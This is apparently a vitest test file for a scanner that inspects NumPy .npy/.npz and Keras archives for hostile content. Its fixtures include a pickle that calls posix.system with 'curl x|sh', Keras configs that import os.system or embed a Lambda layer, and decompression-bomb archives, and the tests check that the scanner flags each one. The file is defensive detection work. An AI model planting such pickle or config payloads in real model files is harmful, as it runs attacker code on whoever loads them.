import { deflateRawSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { bufferSource, detectFormat, inspectArchive, inspectSource } from '../../node/scan/inspect/index.js';
import { PickleWriter, writeNpy, writeZip } from '../fixtures/scan/builders.js';

/**
 * NumPy arrays (.npy, and .npz archives of them) and Keras archives (.keras): what their
 * loaders would run is found statically, and a plain numeric array or a plain Keras model
 * is clean.
 */

const floats = Buffer.from(new Float32Array(12).buffer);
const numeric = (): Buffer => writeNpy("{'descr': '<f4', 'fortran_order': False, 'shape': (3, 4), }", floats);

/** The pickle np.save writes for an object array of one None (protocol 3). */
const benignObjectPickle = (): Buffer => new PickleWriter().proto(3)
  .global('numpy.core.multiarray', '_reconstruct').global('numpy', 'ndarray').binint1(0).tuple1().binUnicode('b').raw(0x87).reduce()
  .mark().binint1(1).binint1(1).tuple1()
  .global('numpy', 'dtype').binUnicode('O8').raw(0x89).raw(0x88).raw(0x87).reduce()
  .raw(0x89).mark().none().raw('l').tuple().build()
  .stop().bytes();
const evilPickle = (): Buffer => new PickleWriter().proto(3).global('posix', 'system').binUnicode('curl x|sh').tuple1().reduce().stop().bytes();
const objectNpy = (pkl: Buffer): Buffer => writeNpy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", pkl);

describe('NumPy .npy', () => {
  it('a numeric array: format npy, its header read, no findings, its data never walked', async () => {
    const f = numeric();
    expect(await detectFormat(bufferSource(f))).toBe('npy');
    const r = await inspectSource(bufferSource(f));
    expect(r).toMatchObject({ format: 'npy', findings: [], meta: { version: '1.0', descr: "'<f4'", shape: [3, 4], fortranOrder: false, objectDtype: false } });
    // Structured and datetime arrays of plain values are plain too.
    for (const descr of ["[('a', '<i4'), ('b', '<f8', (2, 3))]", "'<M8[ns]'", "'|S10'", "'<U5'", "'|b1'"]) {
      const p = await inspectSource(bufferSource(writeNpy(`{'descr': ${descr}, 'fortran_order': True, 'shape': (), }`, floats)));
      expect(p, descr).toMatchObject({ findings: [], meta: { objectDtype: false } });
    }
    expect((r.meta as { dataOffset: number }).dataOffset % 64).toBe(0);
  });

  it('an object array whose pickle runs a shell command is critical, at the offset in the file', async () => {
    const f = objectNpy(evilPickle());
    const r = await inspectSource(bufferSource(f));
    expect(r.format).toBe('npy');
    expect(r.meta).toMatchObject({ objectDtype: true });
    const bad = r.findings.find((x) => x.kind === 'dangerous-import');
    expect(bad).toMatchObject({ severity: 'critical' });
    expect(bad?.offset).toBeGreaterThanOrEqual((r.meta as { dataOffset: number }).dataOffset);
  });

  it('an object array of plain objects, pickled as np.save does, has no finding', async () => {
    const r = await inspectSource(bufferSource(objectNpy(benignObjectPickle())));
    expect(r.findings, JSON.stringify(r.findings)).toEqual([]);
    expect((r.meta as { pickle?: { imports: unknown[] } }).pickle?.imports.length).toBeGreaterThan(0);
  });

  it('a structured dtype with an object field is an object array; a field merely named O is not', async () => {
    const withObject = writeNpy("{'descr': [('a', '<i4'), ('b', '|O')], 'fortran_order': False, 'shape': (1,), }", evilPickle());
    expect((await inspectSource(bufferSource(withObject))).findings.map((f) => f.kind)).toContain('dangerous-import');
    const namedO = writeNpy("{'descr': [('O', '<i4')], 'fortran_order': False, 'shape': (3,), }", Buffer.alloc(12));
    expect(await inspectSource(bufferSource(namedO))).toMatchObject({ findings: [], meta: { objectDtype: false } });
  });

  it('versions 2 and 3 (4-byte header length, UTF-8 header) are read', async () => {
    for (const v of [2, 3] as const) {
      const r = await inspectSource(bufferSource(writeNpy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", evilPickle(), v)));
      expect(r.meta, `v${v}`).toMatchObject({ version: `${v}.0`, objectDtype: true });
      expect(r.findings.map((f) => f.kind), `v${v}`).toContain('dangerous-import');
    }
  });

  it('broken or hostile headers are findings, never a crash or an unbounded read', async () => {
    const cases: [string, Buffer, string][] = [
      ['header past the end', numeric().subarray(0, 40), 'malformed'],
      ['unknown version', Buffer.concat([Buffer.from('\x93NUMPY\x09\x00', 'latin1'), Buffer.alloc(100)]), 'malformed'],
      ['not a dict (numpy refuses it; its data is not a pickle)', writeNpy('[1, 2, 3]', floats), 'limit'],
      ['object data that is not a pickle', objectNpy(Buffer.from('hello, this is not a pickle at all')), 'limit'],
    ];
    const huge = Buffer.alloc(12);
    Buffer.from('\x93NUMPY\x02\x00', 'latin1').copy(huge);
    huge.writeUInt32LE(0xfffffff0, 8);
    cases.push(['a 4 GiB header', huge, 'limit']);
    for (const [name, bytes, kind] of cases) {
      const r = await inspectSource(bufferSource(bytes));
      expect(r.format, name).toBe('npy');
      expect(r.findings.map((f) => f.kind), name).toContain(kind);
    }
  });
});

describe('NumPy .npz archives', () => {
  for (const deflate of [false, true]) {
    it(`a ${deflate ? 'compressed' : 'stored'} .npz: each array is inspected, the hostile one named`, async () => {
      const z = writeZip([{ name: 'weights.npy', data: numeric(), deflate }, { name: 'meta.npy', data: objectNpy(evilPickle()), deflate }]);
      const r = await inspectArchive(bufferSource(z));
      expect(r.findings.filter((f) => f.kind === 'dangerous-import').map((f) => f.path)).toEqual(['meta.npy']);
      expect(r.meta.members.map((m) => `${m.path}:${m.format}`)).toEqual(['weights.npy:npy', 'meta.npy:npy']);
      expect(r.meta.pickles).toEqual(['meta.npy']);
    });
  }

  it('a compressed array larger than an archive member is read for its header only', async () => {
    const noise = Buffer.alloc(1 << 20);
    for (let i = 0, x = 1; i < noise.length; i++) noise[i] = (x = (Math.imul(x, 1103515245) + 12345) >>> 0) >>> 24;
    const big = writeNpy("{'descr': '<f4', 'fortran_order': False, 'shape': (262144,), }", noise);
    const z = writeZip([{ name: 'big.npy', data: big, deflate: true }]);
    const r = await inspectArchive(bufferSource(z), { limits: { zipMemberBytes: 64 * 1024 } });
    expect(r.findings).toEqual([]);
    expect(r.meta.members).toEqual([{ path: 'big.npy', format: 'npy' }]);
    // The same with an object dtype cannot be walked whole: it says so instead of passing it.
    const len = Buffer.alloc(4);
    len.writeUInt32LE(noise.length);
    const longPickle = new PickleWriter().proto(3).raw('B', len, noise).stop().bytes();
    const bigObject = writeNpy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", longPickle);
    const z2 = writeZip([{ name: 'big.npy', data: bigObject, deflate: true }]);
    const r2 = await inspectArchive(bufferSource(z2), { limits: { zipMemberBytes: 64 * 1024 } });
    expect(r2.findings).toMatchObject([{ kind: 'limit', path: 'big.npy' }]);
  });
});

describe('what a hostile .npz can cost', () => {
  it('large compressed members whose first bytes inflate hugely share one budget of 64 MiB, then get a limit finding', async () => {
    // Each member: a header, then 4 MiB of zeros (about 4 KiB deflated), padded so the declared
    // ratio stays under the zip-bomb ratio; reading its header inflates about 4 MiB.
    const zeros = Buffer.alloc(4 * 1024 * 1024);
    const member = writeNpy("{'descr': '<f4', 'fortran_order': False, 'shape': (1048576,), }", zeros);
    const deflated = deflateRawSync(member);
    const body = Buffer.concat([deflated, Buffer.alloc(Math.ceil(member.length / 150), 0x55)]);
    const z = writeZip(Array.from({ length: 24 }, (_, i) => ({ name: `a${i}.npy`, data: member, deflate: true, compressed: body })));
    const r = await inspectArchive(bufferSource(z), { limits: { zipMemberBytes: 64 * 1024 } });
    const limits = r.findings.filter((f) => f.kind === 'limit');
    expect(limits.length).toBeGreaterThan(0);
    expect(limits.length).toBeLessThan(24);
    expect(limits[0]?.detail).toContain('partial inflations');
    expect(r.findings.filter((f) => f.severity === 'high' || f.severity === 'critical')).toEqual([]);
  });
});

describe('Keras archives', () => {
  const keras = (config: unknown): Buffer => writeZip([
    { name: 'metadata.json', data: Buffer.from(JSON.stringify({ keras_version: '3.6.0' })) },
    { name: 'config.json', data: Buffer.from(typeof config === 'string' ? config : JSON.stringify(config)), deflate: true },
    { name: 'model.weights.h5', data: Buffer.from('\x89HDF\r\n\x1a\n', 'latin1') },
  ]);
  const dense = { module: 'keras.layers', class_name: 'Dense', config: { name: 'dense', units: 4, activation: { module: 'keras.activations', class_name: 'function', config: 'relu' } } };
  const model = (layers: unknown[]): unknown => ({ module: 'keras', class_name: 'Sequential', config: { name: 'seq', layers } });

  it('a plain model is clean', async () => {
    const r = await inspectArchive(bufferSource(keras(model([dense]))));
    expect(r.findings).toEqual([]);
    expect(r.meta.members).toEqual([{ path: 'config.json', format: 'keras-config' }]);
  });

  it('a Lambda layer is embedded code (high), named by its layer', async () => {
    const lambda = { module: 'keras.layers', class_name: 'Lambda', config: { name: 'payload', function: { class_name: '__lambda__', config: { code: 'YWJj', defaults: null, closure: null } } } };
    const r = await inspectArchive(bufferSource(keras(model([dense, lambda]))));
    // The layer, and the __lambda__ function it holds.
    expect(r.findings.map((f) => `${f.kind}:${f.severity}@${f.path}`)).toEqual(['embedded-code:high@config.json', 'embedded-code:high@config.json']);
    expect(r.findings[0]?.detail).toContain('"payload"');
  });

  it('an object from outside Keras is judged like a pickle import: os.system is critical', async () => {
    const hostile = { module: 'os', class_name: 'system', config: {} };
    const custom = { module: 'my_lab.layers', class_name: 'Gate', config: {} };
    const r = await inspectArchive(bufferSource(keras(model([dense, custom, { ...dense, config: { ...dense.config, kernel_initializer: hostile } }]))));
    expect(r.findings.map((f) => `${f.kind}:${f.severity}`).sort()).toEqual(['dangerous-import:critical', 'suspicious-import:medium']);
  });

  it('broken or hostile configs are findings, never a crash', async () => {
    const notJson = await inspectArchive(bufferSource(keras('{"module": ')));
    expect(notJson.findings.map((f) => f.kind)).toEqual(['malformed']);
    const deep = await inspectArchive(bufferSource(keras(`${'['.repeat(100_000)}${']'.repeat(100_000)}`)));
    expect(deep.findings.map((f) => f.kind)).toEqual(expect.arrayContaining([expect.stringMatching(/^(limit|malformed)$/)]));
    const big = await inspectArchive(bufferSource(keras(model([dense]))), { limits: { kerasConfigBytes: 10 } });
    expect(big.findings.map((f) => f.kind)).toEqual(['limit']);
  });

  it('a zip with a config.json and nothing else of Keras is still walked: load_model reads any .keras zip\'s config.json', async () => {
    const z = writeZip([{ name: 'config.json', data: Buffer.from(JSON.stringify({ module: 'os', class_name: 'system' })) }]);
    expect((await inspectArchive(bufferSource(z))).findings).toMatchObject([{ kind: 'dangerous-import', severity: 'critical', path: 'config.json' }]);
    const hf = writeZip([{ name: 'config.json', data: Buffer.from(JSON.stringify({ architectures: ['LlamaForCausalLM'], model_type: 'llama', hidden_size: 4096 })) }]);
    expect((await inspectArchive(bufferSource(hf))).findings).toEqual([]);
  });
});
